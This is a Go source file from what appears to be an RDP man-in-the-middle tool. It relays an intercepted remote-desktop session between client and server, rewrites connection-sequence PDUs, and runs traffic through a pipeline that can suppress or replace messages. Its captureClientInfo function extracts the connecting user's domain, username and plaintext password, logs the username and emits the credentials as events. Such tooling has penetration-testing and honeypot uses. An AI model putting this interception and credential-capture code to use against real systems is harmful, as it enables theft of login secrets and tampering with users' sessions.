package mitm

import (
	"errors"
	"io"
	"time"

	"github.com/rcarmo/go-rdp-mitm/internal/catalog"
	"github.com/rcarmo/go-rdp-mitm/internal/codec"
	"github.com/rcarmo/go-rdp-mitm/internal/event"
	"github.com/rcarmo/go-rdp-mitm/internal/intercept"
	"github.com/rcarmo/go-rdp-mitm/internal/leg"
	"github.com/rcarmo/go-rdp-mitm/internal/metrics"
	"github.com/rcarmo/go-rdp-mitm/internal/protocol/mcs"
)

// inbound is one read result handed to the coordinator.
type inbound struct {
	from *side
	pdu  codec.PDU
	err  error
}

// coordinate steps both legs through the rest of the connection sequence.
// Each reader delivers one PDU and waits, so codec changes made by a step
// apply to the next frame. Once connected, each reader turns into a pump.
func (s *Session) coordinate() {
	in := make(chan inbound)

	for _, sd := range []*side{s.client, s.server} {
		s.wg.Add(1)
		go s.readLoop(sd, in)
	}

	timeout := s.cfg.negotiationTimeout()
	timer := time.NewTimer(timeout)
	defer timer.Stop()

	// the client speaks first after the X.224 exchange
	waiting := s.client
	relaying := 0

	for relaying < 2 {
		var msg inbound

		select {
		case <-s.closing:
			return
		case <-timer.C:
			s.terminateWith(newError(NegotiationTimeout, waiting.role, "no PDU within %s", timeout))
			return
		case msg = <-in:
		}

		if msg.err != nil {
			s.readFailed(msg.from, msg.err)
			return
		}

		if s.connected {
			if err := s.relay(msg.from, msg.pdu); err != nil {
				s.fail(err, msg.from.role)
				return
			}
			msg.from.resume <- true
			relaying++
			continue
		}

		if err := s.step(msg.from, msg.pdu); err != nil {
			s.fail(err, msg.from.role)
			return
		}

		if s.connected {
			timer.Stop()
			msg.from.resume <- true
			relaying++
			continue
		}

		waiting = s.other(msg.from)
		resetTimer(timer, timeout)
		msg.from.resume <- false
	}
}

func resetTimer(t *time.Timer, d time.Duration) {
	if !t.Stop() {
		select {
		case <-t.C:
		default:
		}
	}
	t.Reset(d)
}

// readLoop delivers PDUs to the coordinator until it is told to relay.
func (s *Session) readLoop(sd *side, in chan<- inbound) {
	defer s.wg.Done()

	for {
		p, _, err := sd.reader.next()

		select {
		case in <- inbound{from: sd, pdu: p, err: err}:
		case <-s.closing:
			return
		}

		if err != nil {
			return
		}

		select {
		case relay := <-sd.resume:
			if relay {
				s.pump(sd)
				return
			}
		case <-s.closing:
			return
		}
	}
}

// pump relays one direction until the session closes.
func (s *Session) pump(from *side) {
	for !s.isClosing() {
		p, _, err := from.reader.next()
		if err != nil {
			s.readFailed(from, err)
			return
		}

		if err := s.relay(from, p); err != nil {
			s.fail(err, from.role)
			return
		}
	}
}

func (s *Session) readFailed(from *side, err error) {
	if s.isClosing() {
		return
	}
	if errors.Is(err, io.EOF) {
		s.terminate(nil, "closed by "+from.role.String())
		return
	}
	s.fail(err, from.role)
}

func (s *Session) terminateWith(se *SessionError) {
	s.terminate(se, se.Error())
}

// relay forwards one PDU once both legs are connected.
func (s *Session) relay(from *side, p codec.PDU) error {
	if err := from.leg.Received(p); err != nil {
		return Classify(err, from.role)
	}

	out, err := s.intercept(from, p)
	if err != nil {
		return err
	}

	if out != nil {
		if err := s.forward(s.other(from), out); err != nil {
			return err
		}
	}

	if from.leg.State() == leg.Closed {
		s.terminate(nil, "closed by "+from.role.String())
	}

	return nil
}

// step advances the connection sequence by one PDU from one side.
func (s *Session) step(from *side, p codec.PDU) error {
	if err := from.leg.Received(p); err != nil {
		return Classify(err, from.role)
	}

	out, err := s.intercept(from, p)
	if err != nil || out == nil {
		return err
	}

	to := s.other(from)

	switch v := out.(type) {
	case *codec.MCSConnectInitial:
		out = s.rewriteConnectInitial(v)

	case *codec.MCSConnectResponse:
		if out, err = s.rewriteConnectResponse(v); err != nil {
			return err
		}
		if err := s.forward(to, out); err != nil {
			return err
		}
		s.syncChannels()
		return nil

	case *codec.MCSDomain:
		if v.Domain.Application == mcs.AttachUserConfirm {
			if err := s.forward(to, out); err != nil {
				return err
			}
			s.syncChannels()
			return nil
		}

	case *codec.SecurityExchange:
		if err := s.acceptExchange(v); err != nil {
			return err
		}
		return s.exchangeServer(v.Route)

	case *codec.ClientInfo:
		if err := s.exchangeServer(v.Route); err != nil {
			return err
		}
		out = s.rewriteClientInfo(v)

	case *codec.Licensing:
		if from == s.server && v.License.IsTerminal() {
			s.activate()
		}

	case *codec.DemandActive:
		s.activate()
	}

	return s.forward(to, out)
}

// activate switches both codecs to the active phase.
func (s *Session) activate() {
	s.client.codec.SetPhase(codec.PhaseActive)
	s.server.codec.SetPhase(codec.PhaseActive)
}

// syncChannels copies each leg's reserved channel ids into its codec.
func (s *Session) syncChannels() {
	for _, sd := range []*side{s.client, s.server} {
		n := sd.leg.Negotiated()
		sd.codec.SetChannels(codec.Channels{IO: n.IO, User: n.User, Message: n.Message})
	}
}

// intercept runs a PDU through the pipeline. A nil PDU means it was
// suppressed.
func (s *Session) intercept(from *side, p codec.PDU) (codec.PDU, error) {
	if info, ok := p.(*codec.ClientInfo); ok && from == s.client {
		if err := s.captureClientInfo(info); err != nil {
			return nil, err
		}
	}

	res, err := s.pipeline.Run(event.NewPDU(s.id, from.origin, from.codec.Phase(), p))
	if err != nil {
		return nil, &SessionError{Kind: SinkFailure, Leg: from.role, Err: err}
	}

	switch res.Verdict {
	case intercept.Suppress:
		metrics.PDUsSuppressed.WithLabelValues(from.direction(), codec.Name(p)).Inc()
		return nil, nil
	case intercept.Replace:
		return res.Event.PDU, nil
	default:
		return p, nil
	}
}

func (s *Session) captureClientInfo(info *codec.ClientInfo) error {
	creds := event.Credentials{
		Domain:   info.Info.Domain,
		Username: info.Info.UserName,
		Password: info.Info.Password,
		Source:   event.SourceClientInfo,
	}

	if creds.Username != "" {
		s.saveEntry(func(e *catalog.Entry) { e.Username = creds.Username })
	}
	if creds.Username != "" || creds.Password != "" {
		metrics.CredentialsCaptured.WithLabelValues(event.SourceClientInfo).Inc()
		s.log.Infof("session %s: client info credentials for %s", s.id, creds.Username)
	}

	return s.emit(event.NewCredentials(s.id, creds))
}

// forward records p on the destination leg and writes it. The first PDU that
// leaves both legs ready compares them; a mismatch is never written.
func (s *Session) forward(to *side, p codec.PDU) error {
	if err := to.leg.Sent(p); err != nil {
		return Classify(err, to.role)
	}

	if !s.connected && s.client.leg.Ready() && s.server.leg.Ready() {
		if err := s.connect(); err != nil {
			return err
		}
	}

	b, err := to.codec.Encode(p)
	if err != nil {
		return Classify(err, to.role)
	}

	if err := to.write(b); err != nil {
		return newError(TransportError, to.role, "write %s: %v", codec.Name(p), err)
	}

	from := s.other(to)
	metrics.PDUsRelayed.WithLabelValues(from.direction(), codec.Name(p)).Inc()
	metrics.BytesRelayed.WithLabelValues(from.direction()).Add(float64(len(b)))

	return nil
}

// connect promotes both legs once they agree.
func (s *Session) connect() error {
	if err := leg.Compare(s.client.leg, s.server.leg); err != nil {
		return Classify(err, leg.RoleServer)
	}

	for _, sd := range []*side{s.client, s.server} {
		if err := sd.leg.Promote(); err != nil {
			return Classify(err, sd.role)
		}
	}

	s.connected = true
	metrics.NegotiationSeconds.Observe(time.Since(s.started).Seconds())
	s.saveEntry(func(e *catalog.Entry) { e.State = catalog.StateConnected })
	s.log.Infof("session %s: connected", s.id)

	return nil
}
